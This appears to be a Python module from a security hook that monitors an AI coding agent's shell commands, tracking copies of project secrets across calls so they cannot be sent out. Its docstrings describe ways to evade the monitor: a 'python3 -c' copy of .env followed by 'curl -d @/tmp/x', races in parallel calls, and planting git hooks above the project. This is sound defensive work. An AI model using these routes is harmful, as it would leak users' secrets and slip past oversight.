def glob_base(pattern: str, base: str) -> str:
    """The folder a Glob pattern without braces can only match under: `base` joined with its leading components
    that hold no glob character (`..` included; the analysis normalises it), then one folder up for each later
    component that holds `..` (`**/../..` climbs out of the folder it starts in)."""
    if pattern.startswith("~"):
        raise Refused(f"the Glob pattern {pattern[:200]!r} starts with `~`; use an absolute path")
    parts = pattern.split("/")
    fixed: list[str] = []
    for part in parts[:-1]:
        if GLOB_CHARS & set(part):
            break
        fixed.append(part)
    climbs = [".." for part in parts[len(fixed):] if ".." in part]
    if pattern.startswith("/"):
        return "/" + "/".join(p for p in [*fixed, *climbs] if p)
    return "/".join([base.rstrip("/") or "", *fixed, *climbs]) or "/"


def _absolute(value: Any, where: str) -> str:
    if not isinstance(value, str) or not value.startswith("/"):
        raise Refused(f"{where} must be an absolute path, got {_short(value)}")
    return value


def _shown(tool: str, command: str) -> str:
    text = command if tool == "Bash" else f"{tool} ({command})"
    text = " ".join(text.split())
    return f"`{text[:300]}{' …' if len(text) > 300 else ''}`"


# ------------------------------------------------------------------------------------------------
# the policy and the observation

def load_monitor(opts: Options, session: str = "") -> Any:
    """The build's monitor; with a state, its shell extractors read the copies the state names (with_copies) and the
    variables `session`'s earlier commands assigned from the project's secrets (the state's `var` records)."""
    from veriguard.enforce.monitor import Monitor

    protect, secrets = agent_places(opts.env)

    def load() -> Any:
        return Monitor.from_build(opts.build, log=opts.log, log_key=opts.log_key, log_checkpoint=opts.log_checkpoint,
                                  accept_unproved=opts.accept_unproved, protect=protect, secrets=secrets,
                                  expect_sha256=opts.expect_sha256)

    if opts.log_checkpoint is not None:
        check_checkpoint(opts.log_checkpoint)
    state = state_file(opts)
    copies, sent, running = read_state(state) if state else ([], [], Running({}, {}))
    protect += [state] if state else []
    try:
        monitor = load()
        guarded, hidden = linked_places(monitor, opts.env)
        if guarded or hidden:   # rare: a protected name is a link (a dotfiles manager's); built again with its target
            protect, secrets = protect + guarded, secrets + hidden
            monitor = load()
    except Exception as e:
        raise Refused(f"the build {opts.build} cannot be used: {_describe(e)}") from None
    if not state:
        return monitor
    monitor = with_copies(monitor, copies, running.variables.get(session, ()))
    monitor.hook_state = (state, copies, sent)   # remember_copies's: the file and what it named at load, read once
    monitor.hook_running = running               # what may still run (remember_copies, unseen_writes)
    return monitor


# ------------------------------------------------------------------------------------------------
# the state across calls: the files earlier commands wrote from the project's secrets

STATE_LIMIT = 20_000              # paths the state may name: past them every call is denied until a human clears it
STATE_BYTES = 16 * 1024 * 1024


def state_file(opts: Options) -> str:
    """The state file ("" with --no-state). It is the agent's guard's own ({guard}: read, never changed by a command)."""
    if opts.state is not None:
        return opts.state
    home = opts.env.get("HOME", "")
    if not home.startswith("/"):
        raise Refused(f"$HOME must be an absolute path (the state file lies under it), got {home[:200]!r}")
    return os.path.join(home, STATE_FILE)


def _state_fix(path: str) -> str:
    return (f"a person must repair or remove {path} (removing it forgets which files hold copies of the project's "
            "secrets), or the hook must run with --no-state")


class Running(NamedTuple):
    """What calls decided before may still be doing (read_state): a path with the time, in seconds since the epoch,
    until which it may run (a record's `until`; the latest of a path's records)."""

    sends: Mapping[str, float]      # the files sends read
    code: Mapping[str, float]       # the working directories of code the analysis does not follow
    # by session: the names of shell variables a command assigned from what it read of the project's secrets, and the
    # descriptors its `exec` left open on them (records `"var": NAME`): a shell kept across calls still holds them
    variables: Mapping[str, frozenset[str]] = {}


def read_state(path: str) -> tuple[list[str], list[str], Running]:
    """(the copies, the files sends read: records marked `"sent": true`) the state file names (a folder written whole
    ends in `/`), and what may still be running (Running): records marked `"sent": true` or `"code": true` with an
    `until`; ([], [], nothing running) where there is no file yet. Anything else that cannot be read (a link, a folder,
    a line that is no record, more than STATE_LIMIT paths) is Refused: a state that cannot be read would forget
    copies."""
    import fcntl

    from veriguard.contracts import strict_json

    try:
        fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_CLOEXEC | os.O_NONBLOCK)
    except FileNotFoundError:
        return [], [], Running({}, {})
    except OSError as e:
        raise Refused(f"the state file {path} cannot be read ({e.strerror}); {_state_fix(path)}") from None
    with os.fdopen(fd, "rb") as f:
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            raise Refused(f"the state file {path} is not a regular file; {_state_fix(path)}")
        fcntl.flock(fd, fcntl.LOCK_SH)   # a writer appends whole lines under LOCK_EX; the decision's deadline bounds the wait
        data = f.read(STATE_BYTES + 1)
    if len(data) > STATE_BYTES:
        raise Refused(f"the state file {path} is larger than {STATE_BYTES} bytes; {_state_fix(path)}")
    paths: dict[str, None] = {}
    sent: dict[str, None] = {}
    running: dict[str, float] = {}
    coding: dict[str, float] = {}
    variables: dict[str, set[str]] = {}
    for n, line in enumerate(data.split(b"\n"), 1):
        if not line.strip():
            continue
        try:
            entry = strict_json.loads(line)
        except strict_json.StrictJSONError as e:
            raise Refused(f"the state file {path}, line {n}, is not JSON ({e}); {_state_fix(path)}") from None
        copy = entry.get("path") if isinstance(entry, dict) else None
        if not isinstance(copy, str) or not copy.startswith("/") or "\0" in copy:
            raise Refused(f"the state file {path}, line {n}, names no absolute path; {_state_fix(path)}")
        until = entry.get("until")
        if until is not None and (not isinstance(until, (int, float)) or isinstance(until, bool)):
            raise Refused(f"the state file {path}, line {n}, has an `until` that is no number; {_state_fix(path)}")
        var = entry.get("var")
        if var is not None:
            if not isinstance(var, str) or not _state_var(var):
                raise Refused(f"the state file {path}, line {n}, has a `var` that is no shell name; {_state_fix(path)}")
            variables.setdefault(str(entry.get("session_id", "")), set()).add(var)
            continue
        code, sends = entry.get("code") is True, entry.get("sent") is True
        times = coding if code else running if sends and until is not None else None
        if times is not None:       # a send's `until` of -0.0 is kept as 0.0: the same time
            times[copy] = max(float(until or 0.0), times.get(copy, 0.0))
        if code:
            continue
        (sent if sends else paths)[copy] = None
    if len(paths) + len(sent) > STATE_LIMIT:
        raise Refused(f"the state file {path} names more than {STATE_LIMIT} copies; {_state_fix(path)}")
    return list(paths), list(sent), Running(running, coding, {k: frozenset(v) for k, v in variables.items()})


def _state_var(var: str) -> bool:
    """Whether `var` is what a `var` record may hold: a shell name, a descriptor's number, shell.ANY_NAME,
    shell.POSITIONAL, or a function's or alias's name (shell.DEFINED_NAME, the writer's rule) followed by shell.DEFINED,
    a variable's name (or `trap`) followed by shell.SET_TO_RUN."""
    from veriguard.enforce.shell import ANY_NAME, DEFINED, DEFINED_NAME, POSITIONAL, SET_TO_RUN

    name = var[:-len(DEFINED)] if var.endswith(DEFINED) else None
    return (var.isidentifier() or (var.isascii() and var.isdigit()) or var in (ANY_NAME, POSITIONAL)
            or (name is not None and DEFINED_NAME.fullmatch(name) is not None)
            or (var.endswith(SET_TO_RUN) and var[:-len(SET_TO_RUN)].isidentifier()))


@contextlib.contextmanager
def decision_lock(opts: Options) -> Iterator[None]:
    """Holds an exclusive lock on the state file's folder for one decision (parallel hooks wait for each other, within
    their deadline), so that a send and a copy decided at once see each other in the state. Without a state, or where
    the folder cannot be made (nothing can then be recorded: a copy is denied), no lock."""
    import fcntl

    state = state_file(opts)
    folder = os.path.dirname(state) if state else ""
    try:
        if folder:
            os.makedirs(folder, mode=0o700, exist_ok=True)
        fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY | os.O_CLOEXEC) if folder else -1
    except OSError:
        fd = -1
    try:
        if fd >= 0:
            fcntl.flock(fd, fcntl.LOCK_EX)
        yield
    finally:
        if fd >= 0:
            os.close(fd)


def with_copies(monitor: Any, copies: list[str], tainted: Iterable[str] = ()) -> Any:
    """`monitor` whose shell extractors read `copies` as the project's secrets ({carried}, {carried_tree}) and note the
    copies each command makes (ShellExtractor.copies), for remember_copies; and read the `tainted` variables (those
    this session's earlier commands assigned from the project's secrets: the state's `var` records) as that zone, where
    a command expands them (shell.through_tainted)."""
    from veriguard.enforce.shell_session import session_extractors
    from veriguard.enforce.shell_table import places_of

    extra = places_of({"carried": [c for c in copies if not c.endswith("/")],
                       "carried_tree": [c for c in copies if c.endswith("/")]})
    session_extractors(monitor.extractors, tuple(sorted(tainted)), extra, keep=True)
    return monitor


def _session(call: Mapping[str, Any]) -> str:
    """The call's session, as the state records it."""
    return str(call.get("session_id", ""))[:200]


def tainting(monitor: Any, record: Any, call: Mapping[str, Any]) -> list[str]:
    """What a shell kept across calls holds after this Bash command (shell_session.session_names): the variables it
    may assign from the project's secrets, the descriptors it opens on them, the functions and aliases it defines."""
    from veriguard.enforce.shell_session import session_names

    text = call["tool_input"].get("command") if call.get("tool_name") == "Bash" else None
    return session_names(monitor.extractors, record.arguments, text) if isinstance(text, str) else []


def copies_veto(monitor: Any, opts: Options, call: Mapping[str, Any]) -> Any:
    """The monitor's veto for an allow: "" once the copies the command makes are in the state file, else why not."""
    def veto(record: Any) -> str:
        try:
            code = runs_code(monitor, record, call)
            remember_copies(monitor, opts, call, unseen_writes(monitor, record, call, opts, code), code=code,
                            variables=tainting(monitor, record, call))
        except Refused as e:
            return str(e)
        return ""

    return veto


_PATH_WORD = re.compile(r"(?<![\w.~-])/[\w.+~@%-]+(?:/[\w.+~@%-]+)*")


def runs_code(monitor: Any, record: Any, call: Mapping[str, Any]) -> str:
    """"unknown" where the Bash command is code the analysis cannot follow (class unknown, and not only for writes it
    sees: Analysis.unfollowed), "project" where it runs a program of a zone (the project's own code: `python3 src/x.py`,
    `make`, `pytest`), else "": what either writes when it runs is not seen."""
    from veriguard.enforce.shell import ShellExtractor

    if call.get("tool_name") != "Bash":
        return ""
    found = ""
    for name, x in monitor.extractors.items():
        got = record.arguments.get(name)
        if not isinstance(x, ShellExtractor) or got is None:
            continue
        if (x.part == "command" and isinstance(got, Mapping) and got.get("kind") == x.commands.unknown
                and x.unfollowed.get(call["tool_input"].get("command"), True)):
            return "unknown"
        if x.part == "touched" and any(isinstance(a, (list, tuple)) and len(a) == 2 and a[0] == "execute" for a in got):
            found = "project"
    return found


def unseen_writes(monitor: Any, record: Any, call: Mapping[str, Any], opts: Options, code: str) -> list[str]:
    """The files outside the project that code the analysis cannot follow (`code` "unknown": runs_code) names by
    an absolute path in its text: what it writes there is unseen, so each counts as a copy of the project's secrets
    (`python3 -c "...copy('.env', '/tmp/x')"`, then `curl -d @/tmp/x`; a send decided beside it in a parallel batch
    sees it in the state). Refused where one is a file a command decided before sends (the state's `sent`), or named
    there by its name under the working directory: the copy would land under that send; and where any code (`code`
    "unknown" or "project") runs while a send decided before may still be running (the state's `until`): a path the
    code builds (`'ou' + 't.txt'`) or the project's code writes is not seen."""
    from veriguard.enforce.shell import NOT_COPIES

    _, _, sent = getattr(monitor, "hook_state", ("", [], []))
    text = call["tool_input"].get("command")
    if not code or not isinstance(text, str):
        return []
    cwd = call["cwd"].rstrip("/") + "/"

    def names(f: str) -> bool:    # by its path, or by its name under the working directory as a word of its own
        rest = f[len(cwd):] if f.startswith(cwd) else ""
        return f in text or (rest != "" and re.search(rf"(?<![\w./-]){re.escape(rest)}(?![\w./-])", text) is not None)
    named = next((f for f in sent if names(f)), None) if code == "unknown" else None
    if named is not None:
        raise Refused(f"the command runs code the analysis cannot follow and names {named}, which a command decided "
                      "before sends (two calls of one parallel batch, or a send still running): it may copy one of the "
                      "project's secrets there")
    sends = getattr(monitor, "hook_running", Running({}, {})).sends
    still = _still_running(sends) or _still_sending(sends)
    if still is not None:
        raise Refused(f"the command runs code the analysis does not follow (the project's own, or code a human "
                      f"approves), while a send decided before it may still be reading {still[0]} ("
                      f"{f'for up to {still[1]:.0f} s more' if still[1] else 'a process still holds it open'}: a call "
                      "of the same parallel batch, or a send run in the background): the code could write one of the project's secrets there unseen; run it once the send has ended")
    if code != "unknown":
        return []
    project = opts.env.get("CLAUDE_PROJECT_DIR", "").rstrip("/") + "/"
    return [p for p in dict.fromkeys(os.path.normpath(m) for m in _PATH_WORD.findall(text))
            if not (p + "/").startswith(project) and not p.startswith(NOT_COPIES)
            and not os.path.isdir(p)]


SEND_RUNS_S = 10.0            # how long a send decided may still be running beside a call of its parallel batch
BACKGROUND_SEND_RUNS_S = 600.0   # ... where it runs in the background (Claude Code's run_in_background)


def _still_running(running: Mapping[str, float]) -> tuple[str, float] | None:
    """(a path, the seconds for which what was decided on it may still run) of `running` (Running's), the longest; None
    where none may still run."""
    import time

    now = time.time()
    left = [(path, until - now) for path, until in running.items() if until > now]
    return max(left, key=lambda r: r[1]) if left else None


SEND_OPEN_LOOKED_S = 86_400.0    # sends whose time ended less long ago than this are looked for among the processes


def _still_sending(running: Mapping[str, float]) -> tuple[str, float] | None:
    """(a file a send decided before reads, 0) where its time has ended (SEND_RUNS_S) but a process still holds it open
    and names it on its command line (a slow upload run in the background: its window is a bound, this is what the
    machine knows), on a system with /proc; None otherwise. Only the processes this user may look into are seen."""
    import time

    now = time.time()
    paths = {p for p, until in running.items() if now - SEND_OPEN_LOOKED_S < until <= now}
    if not paths or not os.path.isdir("/proc/self/fd"):
        return None
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or pid == str(os.getpid()):
            continue
        try:   # its command line first: one that names none of the files needs no look at its descriptors
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                words = f.read().decode("utf-8", "replace")
            if not any(os.path.basename(p) in words for p in paths):
                continue
            held = {os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")} & paths
            if not held:
                continue
        except OSError:
            continue
        named = next((p for p in sorted(held) if os.path.basename(p) in words), None)
        if named is not None:
            return named, 0.0
    return None


def remember_copies(monitor: Any, opts: Options, call: Mapping[str, Any], unseen: Sequence[str] = (),
                    code: str = "", variables: Sequence[str] = ()) -> None:
    """Appends to the state file the copies the decided command makes (it is allowed, or a person may let it run), so
    that later calls read them as the project's secrets, the files it sends and, where it runs code the analysis does
    not follow (`code`: runs_code), its working directory, each with the time until which it may run, and the shell
    variables it assigned from the project's secrets (`variables`: tainting) for its session. Refused (the
    call is denied) where they cannot be written, and where it sends files while such code decided before may still be
    running (it may be writing one of the project's secrets into them)."""
    import fcntl
    import json
    import time

    from veriguard.enforce.shell import ShellExtractor

    path, read, sent = getattr(monitor, "hook_state", ("", [], []))     # ("", [], []) with --no-state (load_monitor)
    shells = [x for x in monitor.extractors.values() if isinstance(x, ShellExtractor)]
    made = list(dict.fromkeys([c for x in shells for found in x.copies.values() for c in found] + list(unseen)))
    sends = list(dict.fromkeys(c for x in shells for found in x.sends.values() for c in found))
    if not path or not (made or sends or code or variables):
        return
    running = getattr(monitor, "hook_running", Running({}, {}))
    session = _session(call)
    tainted = [v for v in variables if v not in running.variables.get(session, ())]
    coding = _still_running(running.code) if sends else None
    if coding is not None:
        raise Refused(f"the command sends {sends[0]} while code the analysis does not follow, decided before it in "
                      f"{coding[0]}, may still be running (for up to {coding[1]:.0f} s more: a call of the same parallel "
                      "batch, or one run in the background): it may be writing one of the project's secrets there "
                      "unseen; send it once that code has ended")
    onto = next((f for c in made for f in sent if f == c or (c.endswith("/") and f.startswith(c))), None)
    if onto is not None:
        raise Refused(f"the command copies one of the project's secrets onto {onto}, which a command decided before it "
                      "sends (two calls of one parallel batch, or a send still running): it would send the copy")
    known, was_sent = set(read), set(sent)   # as load_monitor read them; the next call's read enforces STATE_LIMIT
    now = time.time()
    new = [(c, False) for c in made if c not in known] + [
        (c, True) for c in sends if c not in was_sent or running.sends.get(c, 0.0) < now]    # its run noted again
    cwd = os.path.normpath(call["cwd"])
    ran = [cwd] if code and running.code.get(cwd, 0.0) < now + SEND_RUNS_S / 2 else []   # not once a call of a burst
    if not (new or ran or tainted):
        return
    if len(known | was_sent | {c for c, _ in new}) > STATE_LIMIT:
        raise Refused(f"the state file {path} would name more than {STATE_LIMIT} copies; {_state_fix(path)}")
    when = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    behind = call["tool_input"].get("run_in_background") is True or any(
        x.background.get(call["tool_input"].get("command", ""), False) for x in shells)   # `cmd &` too
    until = round(now + (BACKGROUND_SEND_RUNS_S if behind else SEND_RUNS_S), 3)
    who = {"session_id": session, "tool_use_id": str(call.get("tool_use_id", ""))[:200], "time": when}
    records = [{"path": c, **({"code": True, "until": until} if is_sent is None else
                              {"sent": True, "until": until} if is_sent else {}), **who}
               for c, is_sent in [*new, *((c, None) for c in ran)]]
    records += [{"path": cwd, "var": v, **who} for v in tainted]
    lines = "".join(json.dumps(r) + "\n" for r in records)
    try:
        os.makedirs(os.path.dirname(path), mode=0o700, exist_ok=True)
        fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_CREAT | os.O_NOFOLLOW | os.O_CLOEXEC | os.O_NONBLOCK, 0o600)
    except OSError as e:
        raise Refused(f"the state file {path} cannot be written ({e.strerror}), so the copy this command makes would "
                      f"be forgotten; {_state_fix(path)}") from None
    with os.fdopen(fd, "wb") as f:
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            raise Refused(f"the state file {path} is not a regular file; {_state_fix(path)}")
        fcntl.flock(fd, fcntl.LOCK_EX)
        f.write(lines.encode())
        f.flush()


def check_checkpoint(path: str) -> None:
    """Refused unless the --log-checkpoint file is absent (the log's first record writes it) or a head that can be
    read: a folder, a FIFO, a link or a file that is not a head would deny every call later, with less said."""
    from veriguard.enforce.decision_log import DecisionLogError, read_head

    if not path:
        raise Refused("the --log-checkpoint path is empty; name a file")
    if not os.path.lexists(path):
        return
    try:
        read_head(path)
    except DecisionLogError as e:
        raise Refused(f"the --log-checkpoint file {path}: {e.message} ({e.fix})") from None


def linked_places(monitor: Any, env: Mapping[str, str]) -> tuple[list[str], list[str]]:
    """Where the protected names of the build's zone maps lead when they are symbolic links on this disk (a dotfiles
    manager's `~/.claude/settings.json -> ~/dotfiles/claude/settings.json`: the agent working in ~/dotfiles wrote
    the settings as a workspace file). Looked at: the literal part of each pattern under the home or the workspace
    folder and the entries right under it, in the zones listed up to the one of {guard} (their targets are guarded:
    read, never changed), those up to the one of {secret} being credentials (their targets are credentials too)."""
    from veriguard.enforce.shell import ShellExtractor
    from veriguard.enforce.shell_table import fill

    home, project = env.get("HOME", ""), env.get("CLAUDE_PROJECT_DIR", "")
    if not home.startswith("/") or not project.startswith("/"):
        return [], []
    values = {"home": home, "workspace": project, "tmp": "/tmp"}
    guarded: list[str] = []
    hidden: list[str] = []
    maps = {id(x.zones): x.zones for x in monitor.extractors.values() if isinstance(x, ShellExtractor)}
    looked: dict[str, int] = {}   # path -> its file type (lstat) (patterns share their folders: ~/.config, ~/.local)
    for zmap in maps.values():
        last = {place: max((i for i, (_, ps) in enumerate(zmap.zones) if any("{" + place + "}" in p for p in ps)),
                           default=-1) for place in ("guard", "secret")}
        for i, (_, patterns) in enumerate(zmap.zones[:last["guard"] + 1]):
            for pattern in (p for p in patterns if p.startswith(("{home}/", "{workspace}/"))):
                base = values[pattern[1:pattern.index('}')]]
                for target in _link_targets(fill(pattern, values), base, looked):
                    (hidden if i <= last["secret"] else guarded).append(target)
    return list(dict.fromkeys(guarded)), list(dict.fromkeys(hidden))


LINK_WALK_LIMIT = 20_000   # entries looked at under each protected folder, breadth first, for linked_places


def _link_targets(pattern: str, base: str, looked: dict[str, int]) -> list[str]:
    """The targets of the symbolic links at the literal part of `pattern` (up to its first wildcard) and under it:
    a link at any component of the literal part below `base` (the home or the workspace folder the pattern starts
    with: `.vscode -> /tmp/v` leads `.vscode/tasks.json` to `/tmp/v/tasks.json`, whether that file exists yet or
    not), right under it where the pattern's last component names them (`X/NAME*`), at any depth where the pattern
    reaches deeper (`X/**`, `X/*/config`: a dotfiles manager links `~/.claude/commands/team/x.md` as well as
    `~/.claude/settings.json`), breadth first, up to LINK_WALK_LIMIT entries; links to folders are not walked
    through (their target is protected whole)."""
    from collections import deque

    from veriguard.enforce.shell_table import has_glob

    parts = pattern.split("/")
    fixed = next((k for k, part in enumerate(parts) if has_glob(part)), len(parts))
    literal, rest = "/".join(parts[:fixed]) or "/", parts[fixed:]
    if _linked_below(literal, base, looked):
        return [os.path.realpath(literal)]
    if not rest or not os.path.isdir(literal):
        return []
    deep = len(rest) > 1 or rest == ["**"]
    found: list[str] = []
    folders, left = deque([literal]), LINK_WALK_LIMIT
    while folders and left > 0:
        folder = folders.popleft()
        try:
            with os.scandir(folder) as it:
                entries = list(itertools.islice(it, left))
        except OSError:
            continue
        left -= len(entries)
        for e in entries:
            if e.is_symlink():
                if deep or fnmatch.fnmatchcase(e.name, rest[0]):
                    found.append(e.path)
            elif deep and e.is_dir(follow_symlinks=False):
                folders.append(e.path)
    return [os.path.realpath(f) for f in found]


def _linked_below(path: str, base: str, looked: dict[str, int]) -> bool:
    """Whether a folder of `path` below `base`, or `path` itself, is a symbolic link on disk (base itself is not
    looked at: a home or workspace folder given through a link is zoned under both spellings, real_spellings)."""
    here = os.path.normpath(base)
    for part in os.path.relpath(path, base).split("/"):
        if part in ("", "."):
            continue
        here = os.path.join(here, part)
        if here not in looked:
            try:
                looked[here] = stat.S_IFMT(os.lstat(here).st_mode)
            except OSError:
                looked[here] = 0
        if looked[here] == stat.S_IFLNK:
            return True
        if looked[here] != stat.S_IFDIR:
            return False    # nothing below a name that is no folder can be a link
    return False


def agent_places(env: Mapping[str, str]) -> tuple[list[str], list[str]]:
    """What the agent must not change beyond the zone maps' fixed names, and the credentials among it, found where
    the hook runs: Claude Code's configuration folder where CLAUDE_CONFIG_DIR moves it (its settings declare this
    hook; its .credentials.json and .claude.json hold the API key), and what the project's git configuration makes
    git run or read later (the core.hooksPath folder, the files it includes)."""
    from veriguard.enforce.shell_git import config_places

    protect: list[str] = []
    secrets: list[str] = []
    config = env.get("CLAUDE_CONFIG_DIR", "")
    if config.startswith("/"):
        protect.append(config)
        secrets += [f"{config}/.credentials.json", f"{config}/.claude.json"]
    project, home = env.get("CLAUDE_PROJECT_DIR", ""), env.get("HOME", "")
    if project.startswith("/") and home.startswith("/"):
        protect += config_places(project, home) + above_project(project, home)
    return protect, secrets


# What tools look for in the folders above the one they work in, when the project has none of its own: git's
# repository (discovery climbs to /), cargo's configuration (every folder above is read), yarn's, mise's and direnv's
ABOVE_PROJECT = (".git", ".cargo/config", ".cargo/config.toml", ".yarnrc.yml", ".mise.toml", ".envrc")


def above_project(project: str, home: str) -> list[str]:
    """ABOVE_PROJECT in each folder above the project, below the home folder or outside it: a project under /tmp
    without its own .git meets /tmp/.git, which the agent could make and configure (`git init /tmp`, then its hooks
    and fsmonitor ran on the user's own `git status` in the project, outside any command the hook sees). The home
    folder and those above it are left out: the home is its own zone, and above it nothing is the agent's."""
    home = os.path.normpath(home)
    out: list[str] = []
    folder = os.path.dirname(os.path.normpath(project))
    while folder != "/" and folder != home and not home.startswith(folder.rstrip("/") + "/"):
        out += [os.path.join(folder, name) for name in ABOVE_PROJECT]
        folder = os.path.dirname(folder)
    return out


def monitor_paths(monitor: Any) -> dict[str, str]:
    """Where the build's shell extractors read the command, cwd, home, approval, workspace and tmp
    (every shell extractor of the spec must read the same places)."""
    from veriguard.enforce.shell import ShellExtractor

    shells = [x for x in monitor.extractors.values() if isinstance(x, ShellExtractor)]
    if not shells:
        raise Refused(f"the policy {monitor.policy.name} does not read shell commands (its [extraction] has no "
                      "`from = \"shell\"` argument); build the hook's policy from a spec like specs/shell_agent.toml")
    keys = ("field", "cwd", "home", "approved", "workspace", "tmp")
    paths = {k: getattr(shells[0], k) for k in keys}
    if any({k: getattr(x, k) for k in keys} != paths for x in shells[1:]):
        raise Refused(f"the shell arguments of {monitor.policy.name} read different observation fields")
    if not paths["approved"]:
        raise Refused(f"the shell arguments of {monitor.policy.name} read no approval field")
    return paths


def observe(monitor: Any, command: str, cwd: str, opts: Options) -> dict[str, Any]:
    """The observation the build's extractors read: the command, where it runs, whose home, no
    approval yet, plus the facts of --context."""
    paths = monitor_paths(monitor)
    home = opts.env.get("HOME", "")
    if not home.startswith("/"):
        raise Refused(f"$HOME must be an absolute path, got {home[:200]!r}")
    obs: dict[str, Any] = dict(read_context(opts.context)) if opts.context else {}
    values = {"field": command, "cwd": cwd, "home": home, "approved": False}
    project, tmp = opts.env.get("CLAUDE_PROJECT_DIR", ""), opts.env.get("TMPDIR", "")
    if paths["workspace"]:
        if not project.startswith("/"):  # else the workspace would be wherever the agent's shell now stands
            raise Refused("CLAUDE_PROJECT_DIR is not an absolute path (Claude Code sets it for its hooks); "
                          f"got {project[:200]!r}: the hook needs the project folder to know the workspace")
        values["workspace"] = project
    if paths["tmp"] and tmp.startswith("/"):
        values["tmp"] = tmp.rstrip("/") or "/"
    for key, value in values.items():
        path = paths[key]
        if path is None:
            continue
        if _has(obs, path):
            raise Refused(f"--context sets {path!r}, which the hook fills in itself")
        _set(obs, path, value)
    return obs


def read_context(path: str) -> Mapping[str, Any]:
    from veriguard.contracts import strict_json

    from veriguard.contracts.regular_file import FileRefused, read_regular_file

    try:  # never a FIFO (the hook would wait for a writer) nor a device such as /dev/zero (memory)
        facts = strict_json.loads(read_regular_file(path))
    except FileRefused as e:
        raise Refused(f"the --context file {path}: {e.why}") from None
    except strict_json.StrictJSONError as e:
        raise Refused(f"the --context file {path} is not valid JSON: {e}") from None
    if not isinstance(facts, dict):
        raise Refused(f"the --context file {path} must hold a JSON object, not {type(facts).__name__}")
    return facts


def _has(obs: Mapping[str, Any], path: str) -> bool:
    node: Any = obs
    for part in path.split("."):
        if not isinstance(node, Mapping) or part not in node:
            return False
        node = node[part]
    return True


def _set(obs: dict[str, Any], path: str, value: Any) -> None:
    parts = path.split(".")
    node = obs
    for part in parts[:-1]:
        nxt = node.get(part)
        node[part] = nxt = dict(nxt) if isinstance(nxt, Mapping) else {}
        node = nxt
    node[parts[-1]] = value


def approval_would_allow(policy: Any, arguments: Mapping[str, Any]) -> bool:
    """Whether the policy allows the same arguments once a human approves: every record argument with
    a boolean `approved` field set to true (no extraction again, no log record)."""
    def approvable(v: Any) -> bool:
        return isinstance(v, Mapping) and isinstance(v.get("approved"), bool)

    if not any(approvable(v) for v in arguments.values()):
        return False
    flipped = {k: dict(v, approved=True) if approvable(v) else v for k, v in arguments.items()}
    try:
        return policy.evaluate_checked(flipped).allowed is True
    except Exception:
        return False


def explain(record: Any) -> str:
    """The denial in words: the rules' messages, the denied items, and what the analysis found."""
    text = record.enforcement.feedback or "; ".join(record.messages)
    how = next((str(p["how"]) for p in record.provenance.values() if p.get("extractor") == "shell" and p.get("how")),
               "")
    if how:
        text += f" [{how[:600]}{' …' if len(how) > 600 else ''}]"
    return text


def _short(value: Any) -> str:
    return repr(value)[:80] if isinstance(value, (str, int, float, bool, type(None))) else type(value).__name__


def _describe(e: BaseException) -> str:
    try:
        text = " ".join(str(e).split())[:400]
    except Exception:
        text = "(its message cannot be printed)"
    return f"{type(e).__name__}: {text}" if text else type(e).__name__


if __name__ == "__main__":
    run(sys.argv[1:])
